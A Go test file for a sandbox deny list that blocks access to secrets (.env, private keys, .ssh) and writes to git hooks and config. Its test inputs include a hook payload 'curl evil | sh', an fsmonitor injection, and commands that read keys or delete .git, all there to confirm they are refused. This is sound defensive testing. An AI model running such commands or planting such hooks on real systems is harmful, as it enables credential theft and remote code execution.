package sandbox

import (
	"bytes"
	"context"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/bmatcuk/doublestar/v4"
)

func TestDenyListCheck(t *testing.T) {
	d := DefaultDenyList()
	cases := []struct {
		path  string
		write bool
		rule  string // "" when allowed
		match string
	}{
		{"README.md", false, "", ""},
		{"README.md", true, "", ""},
		{".", true, "", ""},
		{".env", false, ".env*", ".env"},
		{".env.local", false, ".env*", ".env.local"},
		{"services/api/.env", false, ".env*", "services/api/.env"},
		{"env.go", false, "", ""},
		{"certs/server.pem", false, "*.pem", "certs/server.pem"},
		{"server.pem.go", false, "", ""},
		{"id_rsa", false, "id_rsa*", "id_rsa"},
		{"keys/id_ed25519.pub", false, "id_ed25519*", "keys/id_ed25519.pub"},
		{".ssh/config", false, ".ssh", ".ssh"},
		{"home/.aws/credentials", false, ".aws", "home/.aws"},
		{".netrc", true, ".netrc", ".netrc"},
		{".git/hooks/pre-commit", false, "", ""},
		{".git/hooks/pre-commit", true, "**/.git/hooks", ".git/hooks"},
		{".git/hooks", true, "**/.git/hooks", ".git/hooks"},
		{"vendor/lib/.git/hooks/post-checkout", true, "**/.git/hooks", "vendor/lib/.git/hooks"},
		{".git/config", true, "**/.git/config", ".git/config"},
		{".git/config", false, "", ""},
		{".git/HEAD", true, "", ""},
		{"docs/hooks/x", true, "", ""},
	}
	for _, c := range cases {
		err := d.Check(c.path, c.path, c.write)
		if c.rule == "" {
			if err != nil {
				t.Errorf("%s (write %v): %v, want allowed", c.path, c.write, err)
			}
			continue
		}
		var de *DeniedError
		if !errors.As(err, &de) || !errors.Is(err, ErrDenied) || de.Rule != c.rule || de.Match != c.match {
			t.Errorf("%s (write %v): %#v, want rule %q matching %q", c.path, c.write, err, c.rule, c.match)
			continue
		}
		if !strings.Contains(err.Error(), `"`+c.rule+`"`) || !strings.Contains(err.Error(), "deny list") {
			t.Errorf("%s: the message does not name the rule: %v", c.path, err)
		}
	}
}

func TestDenyRulesAddAndAllow(t *testing.T) {
	d, err := NewDenyList(DenyRules{
		Read:  []string{"secrets/**", "/config/prod.yaml"},
		Write: []string{"Makefile"},
		Allow: []string{"**/.env.example", "*.pem"},
	})
	if err != nil {
		t.Fatal(err)
	}
	for path, denied := range map[string]bool{
		"secrets/db/password.txt": true,
		"config/prod.yaml":        true,
		"sub/config/prod.yaml":    false, // a slash anchors at the root
		".env":                    true,
		".env.example":            false,
		"app/.env.example":        false,
		"certs/server.pem":        false, // the default rule removed
		"id_rsa":                  true,
	} {
		if got := d.Check(path, path, false) != nil; got != denied {
			t.Errorf("read %s: denied %v, want %v", path, got, denied)
		}
	}
	if d.Check("Makefile", "Makefile", false) != nil || d.Check("Makefile", "Makefile", true) == nil {
		t.Errorf("Makefile should be readable but not writable")
	}
	read, write := d.Patterns()
	if !slices.Contains(read, "secrets/**") || !slices.Contains(read, ".env*") || !slices.Contains(write, "Makefile") {
		t.Errorf("patterns %v %v", read, write)
	}
	for _, bad := range []string{"../x", "a/../../b", "[", "   "} {
		if _, err := NewDenyList(DenyRules{Read: []string{bad}}); err == nil {
			t.Errorf("pattern %q accepted", bad)
		}
	}
	if (&DenyList{}).Check(".env", ".env", true) != nil {
		t.Error("an empty list denies")
	}
}

// TestRuleMatchAgreesWithDoublestar checks the fast paths of rule.match
// against doublestar itself.
func TestRuleMatchAgreesWithDoublestar(t *testing.T) {
	patterns := []string{".env*", "*.pem", "id_rsa*", ".ssh", "**/.git/hooks", "**/.git/config", "a/*/c", "x{y,z}", "*.p?m", `\*lit`}
	paths := []string{".env", ".env.local", "a/.env", "x.pem", "a/b/x.pem", "pem", "id_rsa", "id_rs", ".ssh", "a/.ssh", ".git/hooks",
		"a/.git/hooks", ".git/hooks/x", "hooks", ".git/config", "a/b/c", "a/c", "xy", "a/xz", "x.pam", "*lit", "alit"}
	for _, p := range patterns {
		r := newRule(p, p)
		for _, path := range paths {
			subject := path
			if r.base {
				subject = path[strings.LastIndexByte(path, '/')+1:]
			}
			want, _ := doublestar.Match(p, subject)
			if got := r.match(path); got != want {
				t.Errorf("pattern %q, path %q: %v, want %v", p, path, got, want)
			}
		}
	}
}

// denyTree writes a workspace with files the default deny list covers.
func denyTree(t *testing.T, dir string) {
	t.Helper()
	files := map[string]string{
		"README":                       "readme\n",
		".env":                         "API_KEY=sk-secret-env\n",
		".env.example":                 "API_KEY=\n",
		"sub/server.pem":               "-----BEGIN PRIVATE KEY-----\n",
		".ssh/id_ed25519":              "ssh-secret\n",
		".ssh/known_hosts":             "host-secret\n",
		".git/hooks/pre-commit.sample": "#!/bin/sh\n",
		".git/config":                  "[core]\n",
		".git/HEAD":                    "ref: refs/heads/main\n",
	}
	for name, data := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for link, target := range map[string]string{"env-link": ".env", "keys": ".ssh", "hooks": ".git/hooks"} {
		if err := os.Symlink(target, filepath.Join(dir, link)); err != nil {
			t.Fatal(err)
		}
	}
}

func TestWorkspaceRefusesDeniedPaths(t *testing.T) {
	dir := t.TempDir()
	denyTree(t, dir)
	ws, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer ws.Close()

	denied := func(what string, err error, rule string) {
		t.Helper()
		var de *DeniedError
		if !errors.As(err, &de) || de.Rule != rule {
			t.Errorf("%s: %v, want denied by %q", what, err, rule)
		}
	}
	_, err = ws.ReadFile(".env")
	denied("ReadFile .env", err, ".env*")
	if err != nil && !strings.Contains(err.Error(), `".env" is on the sandbox's deny list (rule ".env*")`) {
		t.Errorf("message %q", err)
	}
	_, err = ws.ReadFile(".env.example")
	denied("ReadFile .env.example", err, ".env*")
	_, err = ws.Open(filepath.Join(dir, ".env"))
	denied("Open of the absolute path", err, ".env*")
	_, err = ws.Open("sub/server.pem")
	denied("Open sub/server.pem", err, "*.pem")
	_, err = ws.ReadDir(".ssh")
	denied("ReadDir .ssh", err, ".ssh")
	_, err = ws.ReadFile(".ssh/id_ed25519")
	denied("ReadFile .ssh/id_ed25519", err, ".ssh")
	_, err = ws.ReadFile("env-link")
	denied("ReadFile through a link", err, ".env*")
	_, err = ws.ReadFile("keys/known_hosts")
	denied("ReadFile through a linked directory", err, ".ssh")
	err = ws.WriteFile(".env", []byte("x"), 0o644)
	denied("WriteFile .env", err, ".env*")
	err = ws.WriteFile(".git/hooks/pre-commit", []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
	denied("WriteFile .git/hooks/pre-commit", err, "**/.git/hooks")
	if err != nil && !strings.Contains(err.Error(), "may not be written") {
		t.Errorf("message %q", err)
	}
	err = ws.WriteFile("hooks/post-checkout", []byte("x"), 0o755)
	denied("WriteFile through a link to .git/hooks", err, "**/.git/hooks")
	err = ws.MkdirAll(".git/hooks/dir", 0o755)
	denied("MkdirAll in .git/hooks", err, "**/.git/hooks")
	err = ws.WriteFile(".git/config", []byte("[core]\n\tfsmonitor = evil\n"), 0o644)
	denied("WriteFile .git/config", err, "**/.git/config")
	err = ws.Walk(context.Background(), ".ssh", func(string, fs.DirEntry, error) error { return nil })
	denied("Walk .ssh", err, ".ssh")
	if _, err := os.Stat(filepath.Join(dir, ".git/hooks/pre-commit")); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("the hook was written: %v", err)
	}

	// What stays allowed: reading .git, stat of a denied path, other files.
	for _, name := range []string{"README", ".git/hooks/pre-commit.sample", ".git/config"} {
		if _, err := ws.ReadFile(name); err != nil {
			t.Errorf("ReadFile %s: %v", name, err)
		}
	}
	if _, err := ws.Stat(".env"); err != nil {
		t.Errorf("Stat .env: %v", err)
	}
	// Nothing in .git is written, whether a rule names it or not.
	err = ws.WriteFile(".git/HEAD", []byte("ref: refs/heads/x\n"), 0o644)
	denied("WriteFile .git/HEAD", err, GitRule)

	// Walks leave denied paths out.
	var walked []string
	if err := ws.Walk(context.Background(), ".", func(p string, d fs.DirEntry, err error) error {
		walked = append(walked, p)
		return err
	}); err != nil {
		t.Fatal(err)
	}
	for _, p := range walked {
		if p == ".env" || p == "sub/server.pem" || strings.HasPrefix(p, ".ssh") {
			t.Errorf("the walk reported %s: %v", p, walked)
		}
	}
	if !slices.Contains(walked, "README") || !slices.Contains(walked, ".git/hooks/pre-commit.sample") {
		t.Errorf("walk %v", walked)
	}

	// The file system refuses opening.
	fsys := ws.FS()
	if _, err := fs.ReadFile(fsys, ".env"); !errors.Is(err, ErrDenied) {
		t.Errorf("FS ReadFile .env: %v", err)
	}
	if _, err := fs.ReadDir(fsys, ".ssh"); !errors.Is(err, ErrDenied) {
		t.Errorf("FS ReadDir .ssh: %v", err)
	}
	// Nor are the denied names listed, by a pattern or by name.
	for _, pattern := range []string{"**/*.pem", "sub/server.pem", "*", ".ssh/*", "env-link"} {
		matches, err := doublestar.Glob(fsys, pattern)
		if err != nil || slices.ContainsFunc(matches, func(m string) bool {
			return strings.HasSuffix(m, ".pem") || strings.HasPrefix(m, ".ssh") || strings.HasPrefix(m, ".env") || m == "env-link"
		}) {
			t.Errorf("glob %q lists denied names: %v, %v", pattern, matches, err)
		}
	}
	if _, err := fs.ReadFile(fsys, "README"); err != nil {
		t.Errorf("FS ReadFile README: %v", err)
	}
	if err := ws.Check("README", true); err != nil {
		t.Errorf("Check README: %v", err)
	}
	if err := ws.Check("../x", false); !errors.Is(err, ErrEscape) {
		t.Errorf("Check ../x: %v", err)
	}
}

func TestMasksOfTheDenyList(t *testing.T) {
	dir := t.TempDir()
	denyTree(t, dir)
	got, err := DefaultDenyList().masks(context.Background(), dir, false)
	if err != nil {
		t.Fatal(err)
	}
	want := []mask{
		{path: filepath.Join(dir, ".env")},
		{path: filepath.Join(dir, ".env.example")},
		{path: filepath.Join(dir, ".git/config"), writeOnly: true},
		{path: filepath.Join(dir, ".git/hooks"), dir: true, writeOnly: true},
		{path: filepath.Join(dir, ".ssh"), dir: true},
		{path: filepath.Join(dir, "sub/server.pem")},
	}
	if !slices.Equal(got, want) {
		t.Errorf("masks\n got %+v\nwant %+v", got, want)
	}
	ro, err := DefaultDenyList().masks(context.Background(), dir, true)
	if err != nil {
		t.Fatal(err)
	}
	if slices.ContainsFunc(ro, func(m mask) bool { return m.writeOnly }) || len(ro) != 4 {
		t.Errorf("read-only masks %+v", ro)
	}

	args := strings.Join(maskArgs(dir, setup{masks: got, hidden: "/h"}), " ")
	for _, w := range []string{
		"--ro-bind /h/file " + filepath.Join(dir, ".env"),
		"--ro-bind /h/dir " + filepath.Join(dir, ".ssh"),
		"--ro-bind " + filepath.Join(dir, ".git/hooks") + " " + filepath.Join(dir, ".git/hooks"),
	} {
		if !strings.Contains(args, w) {
			t.Errorf("mask args lack %q: %s", w, args)
		}
	}
	// .git is bound over itself before the masks inside it, so it cannot
	// be moved aside.
	git := "--bind " + filepath.Join(dir, ".git") + " " + filepath.Join(dir, ".git")
	if i, j := strings.Index(args, git), strings.Index(args, filepath.Join(dir, ".git/config")); i < 0 || j < i {
		t.Errorf("want %q first: %s", git, args)
	}
}

func TestBwrapMasksTheDenyList(t *testing.T) {
	for _, mode := range []Mode{ModeWorkspaceWrite, ModeReadOnly} {
		t.Run(string(mode), func(t *testing.T) {
			r := Detect()
			if !r.Isolated() {
				t.Skipf("bubblewrap is not usable here, so the deny list cannot be masked: %s", r)
			}
			run := NewModeRunner(r, mode)
			dir := t.TempDir()
			denyTree(t, dir)
			script := func(s string) (Result, string) {
				var out bytes.Buffer
				res, err := run.Run(context.Background(), Command{Args: []string{"sh", "-c", s}, Workspace: dir, Output: &out, Timeout: 10 * time.Second})
				if err != nil {
					t.Fatal(err)
				}
				return res, out.String()
			}
			for _, s := range []string{"cat README", "cat .git/hooks/pre-commit.sample", "cat .git/config", "ls -a", "test -e .env"} {
				if res, out := script(s); res.ExitCode != 0 {
					t.Errorf("%q: %+v %s", s, res, out)
				}
			}
			for _, s := range []string{"cat .env", "cat .env.example", "cat env-link", "cat sub/server.pem", "ls .ssh", "cat .ssh/id_ed25519", "cat keys/known_hosts",
				"echo x > .git/hooks/pre-commit", "echo x > hooks/pre-push", "echo '[core] fsmonitor = x' >> .git/config",
				"rm -f .env", "mv .env moved", "chmod 644 .env", "mv .git moved.git", "rm -rf .git"} {
				res, out := script(s)
				if res.ExitCode == 0 {
					t.Errorf("%q succeeded: %s", s, out)
				}
				if strings.Contains(out, "secret") {
					t.Errorf("%q showed a secret: %s", s, out)
				}
			}
			// The host's files are as they were.
			for name, want := range map[string]string{".env": "API_KEY=sk-secret-env\n", ".git/config": "[core]\n", ".ssh/id_ed25519": "ssh-secret\n"} {
				if b, err := os.ReadFile(filepath.Join(dir, name)); err != nil || string(b) != want {
					t.Errorf("%s on the host: %q, %v", name, b, err)
				}
			}
			for _, name := range []string{".git/hooks/pre-commit", ".git/hooks/pre-push", "moved", "moved.git"} {
				if _, err := os.Lstat(filepath.Join(dir, name)); !errors.Is(err, fs.ErrNotExist) {
					t.Errorf("%s exists on the host: %v", name, err)
				}
			}
			if mode == ModeWorkspaceWrite {
				if res, out := script("echo ok > new.txt && cat new.txt"); res.ExitCode != 0 || out != "ok\n" {
					t.Errorf("writing elsewhere: %+v %q", res, out)
				}
				// The whole .git is read-only (DESIGN §7.3), not only the
				// paths the deny list names.
				if res, out := script("echo x > .git/HEAD2"); res.ExitCode == 0 {
					t.Errorf("writing .git/HEAD2 succeeded: %q", out)
				}
			}
			if entries, _ := filepath.Glob(filepath.Join(os.TempDir(), "rein-deny-*")); len(entries) > 0 {
				t.Logf("left in the temporary directory (maybe by a parallel run): %v", entries)
			}
		})
	}
}

func TestBwrapWithoutDenyList(t *testing.T) {
	r := Detect()
	if !r.Isolated() {
		t.Skipf("bubblewrap is not usable here: %s", r)
	}
	dir := t.TempDir()
	denyTree(t, dir)
	var out bytes.Buffer
	empty, err := NewDenyList(DenyRules{Allow: []string{"**"}})
	if err != nil {
		t.Fatal(err)
	}
	res, err := NewRunner(r).Run(context.Background(), Command{Args: []string{"cat", ".env"}, Workspace: dir, Output: &out, Deny: empty})
	if err != nil || res.ExitCode != 0 || !strings.Contains(out.String(), "sk-secret-env") {
		t.Errorf("allowing everything: %+v %v %q", res, err, out.String())
	}
}

// TestAllowNamingADefaultRuleRemovesIt: a default pattern listed in Allow
// is gone from the list's patterns, and paths it matched are allowed.
func TestAllowNamingADefaultRuleRemovesIt(t *testing.T) {
	d, err := NewDenyList(DenyRules{Allow: []string{".env*"}})
	if err != nil {
		t.Fatal(err)
	}
	read, _ := d.Patterns()
	if slices.Contains(read, ".env*") {
		t.Errorf("patterns %v still list .env*", read)
	}
	if !slices.Contains(read, "*.pem") {
		t.Errorf("patterns %v lost the other defaults", read)
	}
	if _, denied := d.first(d.read, ".env"); denied {
		t.Error(".env is still denied")
	}
}

// TestPatternSlashesAreTrimmed: slashes around a pattern do not change
// what it denies ("//secrets/" is "secrets" at any depth, as the config
// file accepts it).
func TestPatternSlashesAreTrimmed(t *testing.T) {
	d, err := NewDenyList(DenyRules{Read: []string{"//secrets/"}})
	if err != nil {
		t.Fatal(err)
	}
	if _, denied := d.first(d.read, "secrets"); !denied {
		t.Error(`"//secrets/" does not deny secrets`)
	}
}
